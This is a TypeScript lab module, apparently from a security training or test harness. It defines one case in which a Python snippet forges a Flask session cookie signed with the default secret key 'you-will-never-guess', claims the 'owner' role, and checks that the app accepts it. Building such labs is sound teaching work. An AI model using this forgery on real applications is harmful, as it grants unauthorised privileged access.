import type { LabModule } from '../../labModule';

const FORGE = [
  'import flask',
  'app = flask.Flask("forged")',
  'app.secret_key = "you-will-never-guess"',
  'signer = app.session_interface.get_signing_serializer(app)',
  'print(signer.dumps({"role": "owner"}))',
];

export const lab: LabModule = {
  cases: [
    {
      name: 'a session signed with the fallback',
      honest: [
        { to: '/', shows: '"visits":1' },
        { to: '/', shows: '"visits":2' },
      ],
      exploit: [
        { python: FORGE, saveAs: 'cookie' },
        { to: '/', headers: { Cookie: ({ cookie }) => `session=${cookie}` } },
      ],
      proof: { body: '"role":"owner"' },
    },
  ],
};
